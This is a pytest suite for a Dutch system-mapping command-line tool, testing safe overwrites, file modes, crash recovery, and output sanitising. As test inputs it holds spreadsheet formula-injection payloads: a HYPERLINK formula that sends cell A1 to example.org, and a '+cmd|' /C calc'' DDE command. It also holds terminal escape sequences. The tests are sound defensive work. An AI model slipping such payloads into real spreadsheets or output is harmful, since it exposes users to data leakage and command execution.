"""Every command that writes keeps what is not its own, gives files the usual mode,
leaves nothing behind when it is stopped, writes text that stays text, and prints
nothing that drives the terminal."""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import stat
import subprocess
import sys
import textwrap
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from click.testing import CliRunner, Result

from graph import SystemMap
from loaders import VLEUTEN, load_map, write_csv_folder, write_workbook, write_xlsx
from loaders.errors import CannotWrite, WouldOverwrite
from loaders.write import FORMULA_STARTS
from tests.test_cycle_example import ROUND_1
from tests.test_toets_import import saved
from versterkt.cli import main

#: The errors these tests read are the English ones.
pytestmark = pytest.mark.usefixtures("english_output")

HERE = Path(__file__).parent / "interchange"
KUMU = HERE / "kumu-project.json"


def run(*args: object) -> Result:
    return CliRunner().invoke(main, [str(a) for a in args])


def one_line_error(result: Result) -> str:
    """The one line of a command that failed as it should: exit code 1, no traceback."""
    assert result.exit_code == 1, result.output
    assert isinstance(result.exception, SystemExit), result.exception
    assert "Traceback" not in result.output
    (line,) = result.stderr.strip().splitlines()
    return line


def hidden(folder: Path) -> list[str]:
    """What a write left beside its target: the hidden entries of ``folder``."""
    return sorted(p.name for p in folder.iterdir() if p.name.startswith("."))


# --- 1. nothing of a person's own is replaced -------------------------------------------


def own_folder(tmp_path: Path) -> Path:
    """A folder holding a person's own thesis and a folder of notes."""
    folder = tmp_path / "d"
    folder.mkdir()
    (folder / "scriptie.docx").write_bytes(b"mijn scriptie")
    (folder / "notities").mkdir()
    (folder / "notities" / "week1.txt").write_text("aantekeningen", "utf-8")
    return folder


def tree(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in folder.rglob("*") if p.is_file()}


FOLDER_WRITERS = {
    "import": lambda out: ["import", KUMU, "--out", out],
    "convert": lambda out: ["convert", "--out", out],
    "present": lambda out: ["present", "--out", out],
}


@pytest.mark.parametrize("command", sorted(FOLDER_WRITERS))
def test_a_folder_with_a_persons_own_files_is_refused(tmp_path: Path, command: str) -> None:
    folder = own_folder(tmp_path)
    before = tree(folder)
    line = one_line_error(run(*FOLDER_WRITERS[command](folder)))
    assert line.startswith(f"Error: {folder} holds files versterkt did not write ")
    assert "(notities/, scriptie.docx)" in line
    assert "give a new or empty folder" in line
    assert tree(folder) == before
    assert hidden(tmp_path) == []


def own_file(path: Path) -> Path:
    """A person's own file at ``path``: for ``.xlsx`` a spreadsheet of their own."""
    if path.suffix == ".xlsx":
        wb = openpyxl.Workbook()
        ws = wb.worksheets[0]
        ws.title = "Begroting"
        ws["A1"] = "eigen gegevens"
        wb.save(path)
    else:
        path.write_bytes(b"<html><body>mijn eigen pagina</body></html>")
    return path


FILE_WRITERS = {
    "convert": ("kaart.xlsx", lambda out: ["convert", "--out", out]),
    "import": ("kaart.xlsx", lambda out: ["import", KUMU, "--out", out]),
    "template": ("werkboek.xlsx", lambda out: ["template", "--out", out]),
    "review-form": (
        "formulier.xlsx",
        lambda out: ["review-form", ROUND_1, "--round", "1", "--out", out],
    ),
    "map": ("kaart.html", lambda out: ["map", "--out", out]),
    "export kumu xlsx": ("kaart.xlsx", lambda out: ["export", "--to", "kumu", "--out", out]),
    "export kumu json": ("kaart.json", lambda out: ["export", "--to", "kumu", "--out", out]),
    "export gexf": ("kaart.gexf", lambda out: ["export", "--to", "gexf", "--out", out]),
    "export graphml": ("kaart.graphml", lambda out: ["export", "--to", "graphml", "--out", out]),
    "export prsm": ("kaart.prsm", lambda out: ["export", "--to", "prsm", "--out", out]),
    "export prsm xlsx": ("kaart.xlsx", lambda out: ["export", "--to", "prsm", "--out", out]),
    "export mmp": ("kaart.mmp", lambda out: ["export", "--to", "mentalmodeler", "--out", out]),
    "export matrix": ("kaart.csv", lambda out: ["export", "--to", "mentalmodeler", "--out", out]),
}


@pytest.mark.parametrize("command", sorted(FILE_WRITERS))
def test_a_persons_own_file_is_refused(tmp_path: Path, command: str) -> None:
    name, args = FILE_WRITERS[command]
    target = own_file(tmp_path / name)
    before = target.read_bytes()
    line = one_line_error(run(*args(target)))
    assert line.startswith(f"Error: {target} exists and is not ")
    assert line.endswith("give a new file name, or move that file away first")
    assert target.read_bytes() == before
    assert hidden(tmp_path) == []


@pytest.mark.parametrize("command", sorted(FILE_WRITERS))
def test_a_file_the_command_wrote_before_is_replaced(tmp_path: Path, command: str) -> None:
    name, args = FILE_WRITERS[command]
    target = tmp_path / name
    assert run(*args(target)).exit_code == 0
    target.chmod(0o640)
    again = run(*args(target))
    assert again.exit_code == 0, again.output
    assert stat.S_IMODE(target.stat().st_mode) == 0o640  # a replaced file keeps its mode
    assert hidden(tmp_path) == []


@pytest.mark.parametrize("command", sorted(FOLDER_WRITERS))
def test_a_folder_the_command_wrote_before_is_written_again(tmp_path: Path, command: str) -> None:
    folder = tmp_path / "uit"
    assert run(*FOLDER_WRITERS[command](folder)).exit_code == 0
    (folder / ".DS_Store").write_bytes(b"")  # what a Mac adds to every folder it opens
    again = run(*FOLDER_WRITERS[command](folder))
    assert again.exit_code == 0, again.output
    assert hidden(tmp_path) == []


def test_the_folder_one_works_in_is_written_into_not_replaced(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    here = tmp_path / "hier"
    here.mkdir()
    monkeypatch.chdir(here)
    for _ in range(2):  # into the empty folder, then over what it wrote
        result = run("convert", "--out", ".")
        assert result.exit_code == 0, result.output
    assert Path.cwd() == here and (here / "actoren.csv").exists()
    assert load_map(here) == load_map(VLEUTEN)
    assert hidden(tmp_path) == []


def test_a_change_in_place_of_the_folder_one_works_in_keeps_its_folders(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = tmp_path / "werkboek"
    write_csv_folder(load_map(ROUND_1), folder)
    (folder / "notities").mkdir()
    (folder / "notities" / "week1.txt").write_text("aantekeningen", "utf-8")
    monkeypatch.chdir(folder)
    result = run("round", "open", ".", "--name", "Na de oudersessie")
    assert result.exit_code == 0, result.output
    assert (folder / "notities" / "week1.txt").read_text("utf-8") == "aantekeningen"
    assert [r["number"] for r in load_map(folder).rounds] == [1, 2]
    assert hidden(tmp_path) == [] and hidden(folder) == []


def test_a_template_never_takes_the_place_of_a_filled_workbook(tmp_path: Path) -> None:
    target = write_xlsx(load_map(VLEUTEN), tmp_path / "werkboek.xlsx")
    before = target.read_bytes()
    line = one_line_error(run("template", "--out", target))
    assert line.startswith(f"Error: {target} exists and is not an empty workbook written by ")
    assert target.read_bytes() == before


def test_the_library_refuses_as_the_command_line_does(tmp_path: Path) -> None:
    folder = own_folder(tmp_path)
    with pytest.raises(WouldOverwrite, match="scriptie.docx"):
        write_workbook(load_map(VLEUTEN), folder)  # as db export writes
    with pytest.raises(WouldOverwrite, match="scriptie.docx"):
        write_csv_folder(load_map(VLEUTEN), folder)
    assert (folder / "scriptie.docx").read_bytes() == b"mijn scriptie"


def test_a_change_in_place_keeps_the_other_files_of_a_workbook_folder(tmp_path: Path) -> None:
    folder = tmp_path / "werkboek"
    write_csv_folder(load_map(ROUND_1), folder)
    (folder / "LEESMIJ.txt").write_text("wat deze map is", "utf-8")
    result = run("round", "open", folder, "--name", "Na de oudersessie")
    assert result.exit_code == 0, result.output
    assert (folder / "LEESMIJ.txt").read_text("utf-8") == "wat deze map is"
    assert hidden(tmp_path) == []


# --- 2. the usual file mode --------------------------------------------------------------


@pytest.fixture
def umask_022() -> Iterator[None]:
    old = os.umask(0o022)
    try:
        yield
    finally:
        os.umask(old)


@pytest.mark.usefixtures("umask_022")
@pytest.mark.parametrize(
    ("name", "args"),
    [
        ("kaart.xlsx", ["convert"]),
        ("kaart.xlsx", ["import", KUMU]),
        ("werkboek.xlsx", ["template"]),
        ("formulier.xlsx", ["review-form", ROUND_1, "--round", "1"]),
        ("kaart.html", ["map"]),
        ("kaart.json", ["export", "--to", "kumu"]),
    ],
)
def test_a_new_file_gets_the_mode_the_umask_gives(
    tmp_path: Path, name: str, args: list[object]
) -> None:
    target = tmp_path / name
    result = run(*args, "--out", target)
    assert result.exit_code == 0, result.output
    assert stat.S_IMODE(target.stat().st_mode) == 0o644


@pytest.mark.usefixtures("umask_022")
@pytest.mark.parametrize("args", [["convert"], ["import", KUMU]])
def test_a_new_csv_folder_gets_the_modes_the_umask_gives(
    tmp_path: Path, args: list[object]
) -> None:
    folder = tmp_path / "kaart"
    assert run(*args, "--out", folder).exit_code == 0
    assert stat.S_IMODE(folder.stat().st_mode) == 0o755
    assert {stat.S_IMODE(p.stat().st_mode) for p in folder.iterdir()} == {0o644}


@pytest.mark.parametrize("name", ["werkboek.xlsx", "werkboek"])
def test_a_change_in_place_keeps_the_mode(tmp_path: Path, name: str) -> None:
    target = write_workbook(load_map(ROUND_1), tmp_path / name)
    target.chmod(0o750 if target.is_dir() else 0o640)
    result = run("round", "open", target, "--name", "Na de oudersessie")
    assert result.exit_code == 0, result.output
    assert stat.S_IMODE(target.stat().st_mode) == (0o750 if target.is_dir() else 0o640)


# --- 3. a stopped write is undone by the next run ----------------------------------------

# A process that stops itself (SIGKILL, as a power cut or a kill -9 would) at the n-th
# call of an os function, in the middle of a write.
KILLED_AT = textwrap.dedent(
    """
    import os, signal, sys
    name, at = sys.argv[1], int(sys.argv[2])
    real = getattr(os, name)
    calls = []
    def stop(*args, **kwargs):
        calls.append(args)
        if len(calls) == at:
            os.kill(os.getpid(), signal.SIGKILL)
        return real(*args, **kwargs)
    setattr(os, name, stop)
    from versterkt.cli import main
    main(sys.argv[3:])
    """
)


def killed_at(function: str, call: int, *args: object) -> None:
    done = subprocess.run(
        [sys.executable, "-c", KILLED_AT, function, str(call), *map(str, args)],
        capture_output=True,
        check=False,
    )
    assert done.returncode == -signal.SIGKILL, done.stderr.decode()


def test_a_workbook_folder_taken_away_by_a_stop_is_back_at_the_next_run(tmp_path: Path) -> None:
    folder = tmp_path / "werkboek"
    write_csv_folder(load_map(ROUND_1), folder)
    before = tree(folder)
    # the second rename puts the changed folder in place, after the first moved it aside
    killed_at("rename", 2, "round", "open", folder, "--name", "Na de oudersessie")
    assert not folder.exists()  # the moment the stop came
    assert len(hidden(tmp_path)) == 1  # the old folder, waiting beside it
    result = run("info", folder)
    assert result.exit_code == 0, result.output
    assert tree(folder) == before
    assert hidden(tmp_path) == []


@pytest.mark.parametrize(
    ("name", "args"),
    [
        ("kaart.xlsx", ["convert"]),
        ("kaart", ["convert"]),
        ("kaart.xlsx", ["import", KUMU]),
        ("kaart.html", ["map"]),
        ("kaart.json", ["export", "--to", "kumu"]),
    ],
)
def test_a_copy_left_by_a_stop_is_removed_by_the_next_write(
    tmp_path: Path, name: str, args: list[object]
) -> None:
    target = tmp_path / name
    # stopped just before the full copy takes the place of the target
    killed_at("replace" if "." in name else "rename", 1, *args, "--out", target)
    assert not target.exists()
    assert len(hidden(tmp_path)) == 1
    assert run(*args, "--out", target).exit_code == 0
    assert target.exists()
    assert hidden(tmp_path) == []


def test_a_workbook_folder_an_earlier_version_left_aside_is_back(tmp_path: Path) -> None:
    # what a stop between the two renames of an earlier version left: no folder, and
    # the folder moved aside as .NAME.old.XXXXXXXX
    aside = tmp_path / ".werkboek.old.k2j4_x9q"
    write_csv_folder(load_map(ROUND_1), aside)
    before = tree(aside)
    folder = tmp_path / "werkboek"
    result = run("round", "open", folder, "--name", "Na de oudersessie")
    assert result.exit_code == 0, result.output
    assert hidden(tmp_path) == []
    assert tree(folder).keys() == before.keys()


def test_a_bundle_stopped_halfway_is_written_whole_by_the_next_run(tmp_path: Path) -> None:
    folder = tmp_path / "sessie"
    killed_at("replace", 3, "present", "--out", folder)  # two pages in, the third not
    assert len(hidden(folder)) == 1
    result = run("present", "--out", folder)
    assert result.exit_code == 0, result.output
    assert hidden(folder) == [] and len(list(folder.iterdir())) == 8


def test_the_copy_of_a_write_still_running_is_left_alone(tmp_path: Path) -> None:
    from loaders.write import recover

    target = tmp_path / "kaart.xlsx"
    ended = subprocess.run(
        [sys.executable, "-c", "import os; print(os.getpid())"],
        capture_output=True,
        text=True,
        check=True,
    )
    running = tmp_path / f".kaart.xlsx.versterkt-{os.getppid()}-abc123"
    stopped = tmp_path / f".kaart.xlsx.versterkt-{ended.stdout.strip()}-def456"
    for copy in (running, stopped):
        copy.mkdir()
        (copy / "kaart.xlsx").write_bytes(b"half")
    recover(target)
    assert hidden(tmp_path) == [running.name]


def test_a_copy_left_by_a_stopped_change_is_removed_when_the_workbook_is_read(
    tmp_path: Path,
) -> None:
    target = write_xlsx(load_map(ROUND_1), tmp_path / "werkboek.xlsx")
    before = target.read_bytes()
    killed_at("replace", 1, "round", "open", target, "--name", "Na de oudersessie")
    assert target.read_bytes() == before
    assert len(hidden(tmp_path)) == 1
    assert run("validate", target).exit_code == 0
    assert hidden(tmp_path) == []


def test_a_failed_write_names_the_persons_path_never_the_copy(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def full_disk(src: object, dst: object) -> None:
        raise OSError(28, "No space left on device", str(src))

    monkeypatch.setattr(os, "replace", full_disk)
    target = tmp_path / "kaart.xlsx"
    line = one_line_error(run("convert", "--out", target))
    assert line == f"Error: {target}: No space left on device"
    assert hidden(tmp_path) == []


def test_an_invalid_import_names_the_persons_path_never_the_copy(tmp_path: Path) -> None:
    source = tmp_path / "kaart.json"
    source.write_text(
        json.dumps(
            {
                "elements": [
                    {"_id": "e1", "attributes": {"label": "A", "description": "naam@example.nl"}}
                ],
                "connections": [],
            }
        ),
        "utf-8",
    )
    out = tmp_path / "uit"
    result = run("import", source, "--from", "kumu", "--out", out)
    assert result.exit_code == 1
    assert str(out / "factoren.csv") in result.stderr
    assert ".versterkt-" not in result.stderr
    assert not out.exists() and hidden(tmp_path) == []


# --- 4. text stays text in every file written --------------------------------------------

HOSTILE = ['=HYPERLINK("http://example.org/?"&A1,"klik")', "+cmd|' /C calc'!A0", "@SUM(A1:A2)"]


def session_file(tmp_path: Path, note: str, name: str = "Sociale media") -> Path:
    """A toets session saved by the map page: one remark, one proposed factor."""
    entry = {"link": "inv-verwachtingen-ouders-prestatiedruk", "group": "ouder"}
    return saved(
        tmp_path,
        entries=[{**entry, "verdict": "eens", "note": note}],
        proposals=[{"kind": "factor", "group": "professional", "name": name}],
    )


def xlsx_cells(path: Path, sheet: str) -> list[Any]:
    wb = openpyxl.load_workbook(path)
    return [cell for row in wb[sheet].iter_rows() for cell in row]


@pytest.mark.parametrize("note", HOSTILE)
def test_a_remark_recorded_into_an_xlsx_workbook_stays_text(tmp_path: Path, note: str) -> None:
    workbook = write_xlsx(load_map(ROUND_1), tmp_path / "werkboek.xlsx")
    result = run("review-import", session_file(tmp_path, note), workbook)
    assert result.exit_code == 0, result.output
    (cell,) = [c for c in xlsx_cells(workbook, "toetsing") if c.value == note]
    assert cell.data_type == "s" and cell.quotePrefix  # text, and still text when edited
    assert [r["note"] for r in load_map(workbook).reviews if r["session"] == "oudersessie"] == [
        note
    ]


@pytest.mark.parametrize(
    ("note", "message"),
    [
        ("klopt\x1b[2J", "control character U+001B at position 6"),
        ("x" * 40_000, "40,000 characters; a spreadsheet cell holds at most 32,767"),
    ],
)
def test_a_remark_an_xlsx_cannot_hold_is_one_line_naming_the_cell(
    tmp_path: Path, note: str, message: str
) -> None:
    workbook = write_xlsx(load_map(ROUND_1), tmp_path / "werkboek.xlsx")
    before = workbook.read_bytes()
    line = one_line_error(run("review-import", session_file(tmp_path, note), workbook))
    assert line.startswith(f"Error: cannot write {workbook}[toetsing]:")
    assert line.endswith(message) or f"{message}:" in line or message in line
    assert workbook.read_bytes() == before
    assert hidden(tmp_path) == []


def hostile_map() -> SystemMap:
    m = SystemMap("kaart", "Kaart")
    for i, name in enumerate(HOSTILE):
        m.add_node("Factor", f"f{i}", name, level="persoon", role="bron", note=name)
    m.add_link("l1", "INFLUENCES", "f0", "f1", sign="+")
    m.add_link("l2", "INFLUENCES", "f1", "f2", sign="-")
    return m


def runs_as_formula(cell: str) -> bool:
    if not cell.startswith(FORMULA_STARTS) or cell in ("+", "-"):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


def test_the_mentalmodeler_matrix_holds_no_formula_and_reads_back(tmp_path: Path) -> None:
    from loaders.interchange import read_map, write_map

    out = tmp_path / "kaart.csv"
    write_map(hostile_map(), out, "mentalmodeler")
    cells = [c for row in csv.reader(io.StringIO(out.read_text("utf-8"))) for c in row]
    assert not [c for c in cells if runs_as_formula(c)]
    again, _ = read_map(out, "mentalmodeler")
    assert sorted(n.name for n in again.nodes()) == sorted(HOSTILE)


@pytest.mark.parametrize("fmt", ["kumu", "prsm"])
def test_spreadsheet_exports_keep_text_as_text(tmp_path: Path, fmt: str) -> None:
    from loaders.interchange import write_map

    out = tmp_path / "kaart.xlsx"
    write_map(hostile_map(), out, fmt)
    wb = openpyxl.load_workbook(out)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    hostile = [c for c in cells if isinstance(c.value, str) and c.value in HOSTILE]
    assert hostile and all(c.data_type == "s" and c.quotePrefix for c in hostile)


@pytest.mark.parametrize("fmt", ["kumu", "prsm"])
def test_a_spreadsheet_export_refuses_a_control_character_naming_the_cell(
    tmp_path: Path, fmt: str
) -> None:
    from loaders.interchange import write_map

    m = hostile_map()
    m.add_node("Factor", "bel", "Bel\x07", level="persoon", role="bron")
    out = tmp_path / "kaart.xlsx"
    with pytest.raises(CannotWrite, match="control character U\\+0007") as caught:
        write_map(m, out, fmt)
    assert caught.value.error.path.startswith(f"{out}[")
    assert not out.exists() and hidden(tmp_path) == []


@pytest.mark.parametrize("name", ["kaart.graphml", "kaart.gexf", "kaart.mmp"])
def test_an_xml_export_refuses_a_control_character_naming_the_node(
    tmp_path: Path, name: str
) -> None:
    folder = tmp_path / "werkboek"
    m = load_map(VLEUTEN)
    write_csv_folder(m, folder)
    path = folder / "actoren.csv"
    path.write_text(path.read_text("utf-8").replace(",Jongeren,", ",Jong\x01eren,", 1), "utf-8")
    out = tmp_path / name
    line = one_line_error(run("export", folder, "--out", out))
    assert line == (
        f"Error: cannot write {out}: node 'jongeren', name: control character U+0001 at "
        "position 5: an XML file cannot hold it; remove it first"
    )
    assert not out.exists() and hidden(tmp_path) == []


def test_an_xml_export_refuses_a_control_character_in_the_maps_name(tmp_path: Path) -> None:
    from loaders.interchange import write_map

    m = hostile_map()
    m.name = "Kaart\x02"
    with pytest.raises(CannotWrite, match="the map's name: control character U\\+0002"):
        write_map(m, tmp_path / "kaart.gexf")
    assert hidden(tmp_path) == [] and not (tmp_path / "kaart.gexf").exists()


def test_the_review_form_keeps_names_as_text(tmp_path: Path) -> None:
    folder = tmp_path / "werkboek"
    m = load_map(ROUND_1)
    write_csv_folder(m, folder)
    path = folder / "factoren.csv"
    text = path.read_text("utf-8")
    name = m.node("prestatiedruk").name
    path.write_text(text.replace(f",{name},", ",'=Prestatiedruk,", 1), "utf-8")
    assert load_map(folder).node("prestatiedruk").name == "=Prestatiedruk"
    form = tmp_path / "formulier.xlsx"
    assert run("review-form", folder, "--round", "1", "--out", form).exit_code == 0
    sentences = [c for c in xlsx_cells(form, "reacties") if "=Prestatiedruk" in str(c.value)]
    assert sentences and all(c.data_type == "s" for c in sentences)


# --- 6. nothing printed drives the terminal ----------------------------------------------


def test_a_proposed_name_with_escapes_is_printed_as_a_command_that_keeps_it(
    tmp_path: Path,
) -> None:
    workbook = Path(tmp_path / "werkboek")
    write_csv_folder(load_map(ROUND_1), workbook)
    name = "Sociale\x1b[2J\x1b]0;gehackt\x07 media"
    result = run("review-import", session_file(tmp_path, "klopt", name=name), workbook)
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.output and "\x07" not in result.output
    (command,) = [line for line in result.output.splitlines() if "add-node" in line]
    # the command as bash reads it gives the name exactly
    words = subprocess.run(
        ["bash", "-c", f"printf '%s\\0' {command.removeprefix('versterkt ')}"],
        capture_output=True,
        check=True,
    ).stdout.split(b"\0")
    assert name.encode() in words


@pytest.mark.parametrize("fmt", ["table", "csv", "json"])
def test_a_table_of_names_with_escapes_prints_them_as_escapes(
    tmp_path: Path, fmt: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "400")  # a wide terminal: no name is wrapped
    folder = tmp_path / "werkboek"
    m = load_map(VLEUTEN)
    write_csv_folder(m, folder)
    path = folder / "factoren.csv"
    text = path.read_text("utf-8")
    name = m.node("prestatiedruk").name
    path.write_text(text.replace(f",{name},", ",Prestatie\x1b[31mdruk\x9b,", 1), "utf-8")
    result = CliRunner().invoke(main, ["query", "influence", str(folder), "--format", fmt])
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.output and "\x9b" not in result.output
    if fmt == "json":
        names = [name for row in json.loads(result.output) for name in row["names"]]
        assert "Prestatie\x1b[31mdruk\x9b" in names  # the json holds the name exactly
    else:
        assert "Prestatie\\x1b[31mdruk\\x9b" in result.output


def test_an_error_about_data_with_escapes_prints_them_as_escapes(tmp_path: Path) -> None:
    folder = tmp_path / "werkboek"
    write_csv_folder(load_map(VLEUTEN), folder)
    path = folder / "relaties.csv"
    text = path.read_text("utf-8")
    row = "x1,niemand\x1b[2J,prestatiedruk,beïnvloedt,+,,hypothese,1,,,,\n"
    path.write_text(text + row, "utf-8")
    result = run("validate", folder)
    assert result.exit_code == 1
    assert "\x1b" not in result.stderr and "niemand\\x1b[2J" in result.stderr


def test_a_map_name_with_escapes_is_printed_as_escapes(tmp_path: Path) -> None:
    folder = tmp_path / "werkboek"
    m = load_map(VLEUTEN)
    m.name = "Vleuten\x1b]0;titel\x07"
    write_csv_folder(m, folder)
    result = run("info", folder)
    assert result.exit_code == 0, result.output
    assert result.output.splitlines()[0] == "Vleuten\\x1b]0;titel\\x07 [vleuten]"


def test_the_json_of_every_part_of_a_diff_prints_control_characters_as_escapes(
    tmp_path: Path,
) -> None:
    from tests.test_cycle_example import ROUND_2

    folder = tmp_path / "werkboek"
    write_csv_folder(load_map(ROUND_2), folder)
    path = folder / "bijstellingen.csv"
    text = path.read_text("utf-8")
    path.write_text(text.replace("Professionals:", "Professionals\x9b\x1b[2J:", 1), "utf-8")
    result = run("diff", "1", "2", folder, "--format", "json")
    assert result.exit_code == 0, result.output
    assert "\x9b" not in result.output and "\x1b" not in result.output
    reasons = [row["reason"] for row in json.loads(result.output)["changes"]]
    assert any(str(r).startswith("Professionals\x9b\x1b[2J:") for r in reasons)
